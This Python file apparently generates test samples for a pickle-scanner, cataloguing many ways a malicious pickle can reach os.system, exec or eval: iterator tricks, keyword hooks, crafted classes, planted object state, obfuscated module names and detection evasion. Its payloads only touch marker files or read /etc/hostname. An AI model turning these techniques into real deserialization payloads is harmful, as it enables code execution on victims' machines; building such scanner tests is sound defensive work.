"""Ways to have a harmful function called, one function for each: who calls it, and how it comes there.

samples() gives a name, the effect (see scan_corpus.py) and the object. `scan_gadgets.py` has the harmful functions themselves.
"""

from scan_assembler import *

SYSTEM, EXEC, EVAL = G("os", "system"), G("builtins", "exec"), G("builtins", "eval")


def builtin(name):
    return G("builtins", name)


def partial(function, *args):
    return R(G("functools", "partial"), function, *args)


def with_keywords(function, args, keywords):
    """A call with keywords: a partial whose state has them."""
    return R(Build(R(G("functools", "partial"), function), (function, tuple(args), keywords, None)))


def method(obj, name, *args):
    """A method called through `operator.methodcaller`."""
    return R(R(G("operator", "methodcaller"), name, *args), obj)


def made_class(attributes, *bases):
    """A class that `type` makes while the pickle is loaded."""
    return R(builtin("type"), "X", tuple(bases), attributes)


def lazily_called():
    """A map, filter or iterator of itertools calls; something else asks it for items."""

    def calls():
        return R(builtin("map"), SYSTEM, [TOUCH])

    for name in "list tuple set frozenset sorted sum max min any all bytes bytearray next".split():
        yield "map, asked by %s" % name, "mark", R(builtin(name), calls())
    yield "map, asked by enumerate", "mark", R(builtin("list"), R(builtin("enumerate"), calls()))
    for module_, name in [
        ("collections", "deque"),
        ("collections", "Counter"),
        ("collections", "UserList"),
        ("math", "fsum"),
        ("math", "prod"),
        ("statistics", "mean"),
        ("itertools", "product"),
        ("itertools", "permutations"),
    ]:
        yield "map, asked by %s" % name, "mark", R(G(module_, name), calls())
    yield "map, asked by heapq.nlargest", "mark", R(G("heapq", "nlargest"), 1, calls())
    yield "map, asked by array", "mark", R(G("array", "array"), "i", calls())
    for name in "contains countOf indexOf".split():
        yield "map, asked by operator.%s" % name, "mark", R(G("operator", name), calls(), 0)
    yield "map, asked by iadd", "mark", R(G("operator", "iadd"), [], calls())
    yield "map, asked by a slice", "mark", R(G("operator", "setitem"), [], R(builtin("slice"), 0, 0), calls())
    yield "map of write_text over paths", "mark", R(
        builtin("sum"), R(builtin("map"), R(G("operator", "methodcaller"), "write_text", "x"), [R(G("pathlib", "Path"), MARK)])
    )
    yield "map of unlink over paths", "os.remove", R(
        builtin("list"), R(builtin("map"), R(G("operator", "methodcaller"), "unlink", True), [R(G("pathlib", "PosixPath"), "nothing")])
    )
    for name in "filterfalse takewhile dropwhile".split():
        yield "itertools.%s" % name, "mark", R(builtin("list"), R(G("itertools", name), SYSTEM, [TOUCH]))
    yield "itertools.starmap", "mark", R(builtin("list"), R(G("itertools", "starmap"), SYSTEM, [(TOUCH,)]))
    yield "itertools.groupby", "mark", R(builtin("list"), R(G("itertools", "groupby"), [TOUCH], SYSTEM))
    yield "itertools.accumulate", "mark", R(builtin("list"), R(G("itertools", "accumulate"), [CODE, {}], EXEC))
    yield "iter until a sentinel", "mark", R(builtin("list"), R(builtin("iter"), partial(SYSTEM, TOUCH), 0))
    yield "reduce", "mark", R(G("functools", "reduce"), EXEC, [CODE, {}])


def keywords():
    """A keyword names the function: `key=`, `default=`."""
    yield "sorted, key", "mark", with_keywords(builtin("sorted"), ([TOUCH],), {"key": SYSTEM})
    yield "max, key", "mark", with_keywords(builtin("max"), ([TOUCH, TOUCH],), {"key": SYSTEM})
    yield "list.sort, key", "mark", R(
        Build(R(G("functools", "partial"), attr(builtin("list"), "sort")), (attr(builtin("list"), "sort"), ([TOUCH],), {"key": SYSTEM}, None))
    )
    yield "bisect, key", "any", with_keywords(G("bisect", "bisect"), ([TOUCH], 1), {"key": SYSTEM})
    yield "json.dumps, default", "mark", with_keywords(G("json", "dumps"), ([b"touch MARK"],), {"default": SYSTEM})
    yield "json.loads, object_pairs_hook", "mark", with_keywords(
        G("json", "loads"), ('{"a": 1}',), {"object_pairs_hook": partial(G("runpy", "run_path"), "gadget.py")}
    )
    yield "print, file", "mark", with_keywords(builtin("print"), ("x",), {"file": R(G("io", "open"), MARK, "w")})
    yield "logging.basicConfig, filename", "mark", with_keywords(G("logging", "basicConfig"), (), {"filename": MARK})
    yield "a default factory", "mark", R(G("operator", "getitem"), R(G("collections", "defaultdict"), partial(SYSTEM, TOUCH)), "key")
    yield "a format of a default factory", "mark", R(G("operator", "mod"), "%(x)s", R(G("collections", "defaultdict"), partial(SYSTEM, TOUCH)))


def operators_of_made_classes():
    """A builtin function is no descriptor: as `__add__` of a class it is called with the other operand alone."""
    for name in "eq ne lt add sub mul matmul floordiv pow and_ or_ xor lshift getitem contains delitem iadd".split():
        dunder = "__%s__" % name.strip("_")
        yield "made class, " + dunder, "mark", R(G("operator", name), R(made_class({dunder: EVAL})), "__import__('os').system('touch MARK')")
    for function, dunder in [
        ("len", "__len__"),
        ("str", "__str__"),
        ("repr", "__repr__"),
        ("hash", "__hash__"),
        ("int", "__int__"),
        ("float", "__float__"),
        ("abs", "__abs__"),
        ("iter", "__iter__"),
        ("next", "__next__"),
        ("reversed", "__reversed__"),
        ("bool", "__bool__"),
        ("bytes", "__bytes__"),
        ("round", "__round__"),
        ("bin", "__index__"),
    ]:
        yield "made class, " + dunder, "mark", R(builtin(function), R(made_class({dunder: partial(SYSTEM, TOUCH)})))
    for name in "trunc floor ceil".split():
        yield "made class, __%s__" % name, "mark", R(G("math", name), R(made_class({"__%s__" % name: partial(SYSTEM, TOUCH)})))


def methods_of_made_classes():
    """Methods that the pickle machine and the interpreter call by themselves."""
    yield "made class, __call__", "mark", R(R(made_class({"__call__": SYSTEM})), TOUCH)
    yield "made class, __init__", "mark", R(made_class({"__init__": EXEC}), CODE)
    yield "made class, __getattr__", "mark", R(builtin("getattr"), R(made_class({"__getattr__": EVAL})), "__import__('os').system('touch MARK')")
    yield "made class, __missing__", "mark", R(
        G("operator", "getitem"), R(made_class({"__missing__": EVAL}, builtin("dict"))), "__import__('os').system('touch MARK')"
    )
    yield "made class, __setstate__", "mark", Build(R(made_class({"__setstate__": SYSTEM})), TOUCH)
    yield "made class, __setstate__ of an object without __init__", "mark", Build(New(made_class({"__setstate__": EXEC})), CODE)
    yield "made class, __setattr__ of a state of slots", "mark", Build(R(made_class({"__setattr__": EXEC})), (None, {CODE: {}}))
    yield "made class, __init_subclass__", "mark", R(builtin("type"), "Y", (made_class({"__init_subclass__": partial(SYSTEM, TOUCH)}),), {})
    yield "made class, __sizeof__", "mark", R(G("sys", "getsizeof"), R(made_class({"__sizeof__": partial(SYSTEM, TOUCH)})))
    yield "made class, __length_hint__", "mark", R(G("operator", "length_hint"), R(made_class({"__length_hint__": partial(SYSTEM, TOUCH)})))
    yield "made class, __fspath__", "mark", R(G("os", "fspath"), R(made_class({"__fspath__": partial(G("subprocess", "getoutput"), TOUCH)})))
    yield "made encoder", "mark", method(R(made_class({"default": SYSTEM}, G("json", "JSONEncoder"))), "encode", [b"touch MARK"])
    yield "made class, append", "mark", Raw(emit(R(made_class({"append": SYSTEM})), 4) + emit(TOUCH, 4) + b"a")
    yield "made class, add", "mark", Raw(emit(R(made_class({"add": SYSTEM})), 4) + b"(" + emit(TOUCH, 4) + b"\x90")
    yield "made class, __setitem__", "mark", Raw(emit(R(made_class({"__setitem__": EXEC})), 4) + emit(CODE, 4) + b"}s")


def planted_methods():
    """An object's state brings a function that its class's methods call: a thread's target, what a destructor closes."""
    closes = lambda **names: Build(New(G("types", "SimpleNamespace")), dict(names))
    yield "planted __setstate__", "mark", Build(Build(R(G("argparse", "Namespace")), {"__setstate__": SYSTEM}), TOUCH)
    yield "planted append", "mark", Raw(emit(closes(append=SYSTEM), 4) + emit(TOUCH, 4) + b"a")
    yield "planted add", "mark", Raw(emit(closes(add=SYSTEM), 4) + b"(" + emit(TOUCH, 4) + b"\x90")
    yield "planted target of a thread", "mark", R(
        G("threading", "Thread.run"), Build(New(G("threading", "Thread")), {"_target": SYSTEM, "_args": (TOUCH,), "_kwargs": {}})
    )
    yield "planted function of a handle", "any", R(
        G("asyncio.events", "Handle._run"),
        Build(New(G("asyncio.events", "TimerHandle")), (None, {"_callback": partial(SYSTEM, TOUCH), "_args": (), "_context": R(G("contextvars", "Context"))})),
    )
    yield "planted closer of a temporary file", "mark", Then(
        Build(New(G("tempfile", "_TemporaryFileCloser")), {"file": closes(close=partial(SYSTEM, TOUCH)), "name": "nothing", "delete": False}), 1
    )
    yield "planted socket of telnet", "any", Then(Build(New(G("telnetlib", "Telnet")), {"sock": closes(close=partial(SYSTEM, TOUCH))}), 1)
    yield "planted dict of a shelf", "mark", Then(
        Build(New(G("shelve", "Shelf")), {"dict": closes(close=partial(SYSTEM, TOUCH), sync=partial(SYSTEM, TOUCH)), "writeback": False}), 1
    )
    yield "planted function of a partial", "mark", R(Build(New(G("functools", "partial"), builtin("len")), (SYSTEM, (TOUCH,), {}, {})))
    yield "class of an object swapped", "mark", Build(Build(R(G("argparse", "Namespace")), (None, {"__class__": made_class({"__setstate__": SYSTEM})})), TOUCH)
    yield "made without __init__, then listed", "any", R(
        builtin("list"), Build(New(G("fileinput", "FileInput")), {"_files": ("/etc/hostname",), "_file": None, "_filename": None})
    )
    yield "FileType made without __init__, then mapped", "mark", R(
        builtin("list"), R(builtin("map"), Build(New(G("argparse", "FileType")), {"_mode": "w", "_bufsize": -1, "_encoding": None, "_errors": None}), [MARK])
    )


def shared_objects():
    """Objects that the whole process shares are changed: classes, modules, registries."""
    yield "type of an object changed", "any", Build(R(builtin("type"), R(G("fractions", "Fraction"), 1)), (None, {"planted": 1}))
    yield "state of a module", "any", Build(R(builtin("__import__"), "json"), {"loads": 7})
    yield "code of a function", "any", Build(G("json", "loads"), (None, {"__kwdefaults__": {}}))
    yield "extension code given", "any", R(G("copyreg", "add_extension"), "os", "system", 99)
    yield "extension code given and used", "mark", Then(R(G("copyreg", "add_extension"), "os", "system", 99), R(Raw(b"\x82\x63"), TOUCH))
    yield "extension code that nobody gave, called", "any", R(Raw(b"\x82\x77"), TOUCH)
    yield "paths of site", "any", Raw(emit(G("site", "PREFIXES"), 4) + emit("/nowhere", 4) + b"a")
    yield "types of mimetypes", "any", Raw(emit(G("mimetypes", "types_map"), 4) + emit(".py", 4) + emit("x", 4) + b"s")
    yield "logging of the root", "any", Build(G("logging", "root"), {"level": 99})
    yield "codec registered and looked up", "os.system", Then(R(G("codecs", "register"), SYSTEM), R(G("codecs", "lookup"), "true"))


def names_computed():
    """The module's name is made on the way; no rule sees it in the stream."""
    made = [
        ("str.replace", R(attr("oXs", "replace"), "X", "")),
        ("a slice", R(G("operator", "getitem"), "xosx", R(builtin("slice"), 1, 3))),
        ("chr", R(G("operator", "add"), R(builtin("chr"), 111), R(builtin("chr"), 115))),
        ("reversed", R(attr("", "join"), R(builtin("reversed"), "so"))),
        ("json", R(G("json", "loads"), '"os"')),
        ("literal_eval", R(G("ast", "literal_eval"), '"os"')),
        ("struct", R(attr(R(G("struct", "pack"), "BB", 111, 115), "decode"))),
        ("textwrap", R(G("textwrap", "dedent"), "  os")),
        ("translate", R(attr("ab", "translate"), {97: "o", 98: "s"})),
        ("basename", R(G("os.path", "basename"), "/x/os")),
        ("unescape", R(G("html", "unescape"), "o&#115;")),
        ("unquote", R(G("urllib.parse", "unquote"), "%6fs")),
        ("re.sub", R(G("re", "sub"), "x", "", "xosx")),
        ("shlex", R(G("operator", "getitem"), R(G("shlex", "split"), "os a"), 0)),
        ("a template", method(R(G("string", "Template"), "$a"), "substitute", {"a": "os"})),
        ("zlib", R(attr(R(G("zlib", "decompress"), __import__("zlib").compress(b"os")), "decode"))),
    ]
    for name, obj in made:
        yield "global named by " + name, "mark", R(Raw(emit(obj, 4) + emit("system", 4) + b"\x93"), TOUCH)
        yield "import of what is named by " + name, "mark", R(attr(R(builtin("__import__"), obj), "system"), TOUCH)


def reached():
    """The function is an attribute, an item or a global of something else."""
    yield "globals of a function, through get", "mark", R(attr(R(attr(attr(G("shutil", "rmtree"), "__globals__"), "get"), "os"), "system"), TOUCH)
    yield "builtins by __self__", "mark", R(attr(attr(builtin("len"), "__self__"), "exec"), CODE)
    yield "loader of a module", "any", R(attr(attr(R(builtin("__import__"), "json"), "__loader__"), "get_data"), "/etc/hostname")
    yield "loader by a dotted name", "any", R(G("json", "__spec__.loader.get_data"), "/etc/hostname")
    yield "frame", "any", R(attr(R(G("operator", "getitem"), attr(R(G("sys", "_getframe")), "f_globals"), "os"), "system"), TOUCH)
    yield "module found by gc", "any", R(
        attr(R(builtin("next"), R(builtin("filter"), partial(G("operator", "is_"), R(builtin("__import__"), "os")), R(G("gc", "get_objects")))), "system"),
        TOUCH,
    )
    yield "module of a function", "mark", R(attr(R(G("inspect", "getmodule"), SYSTEM), "system"), TOUCH)
    yield "vars of a module", "mark", R(R(G("operator", "getitem"), R(builtin("vars"), R(builtin("__import__"), "posix")), "system"), TOUCH)
    yield "pydoc.locate of what nobody knows", "mark", R(G("pydoc", "locate"), "gadget")
    yield "pkgutil.resolve_name of what nobody knows", "mark", R(G("pkgutil", "resolve_name"), "gadget:x")


def files_opened_by_constructors():
    """A harmless class opens a file when it is given a path."""
    yield "dateutil tzfile", "any", R(G("dateutil.tz", "tzfile"), "/etc/hostname")
    yield "joblib Memory", "any", R(G("joblib.memory", "Memory"), MARK)
    yield "joblib BinaryGzipFile", "any", R(G("joblib.compressor", "BinaryGzipFile"), "/etc/hostname")
    yield "Python 2 FileType", "any", R(G("types", "FileType"), MARK, "w")


TECHNIQUES = (
    lazily_called,
    keywords,
    operators_of_made_classes,
    methods_of_made_classes,
    planted_methods,
    shared_objects,
    names_computed,
    reached,
    files_opened_by_constructors,
)


def samples():
    for technique in TECHNIQUES:
        for name, effect, obj in technique():
            yield "%s: %s" % (technique.__name__.replace("_", " "), name), effect, obj
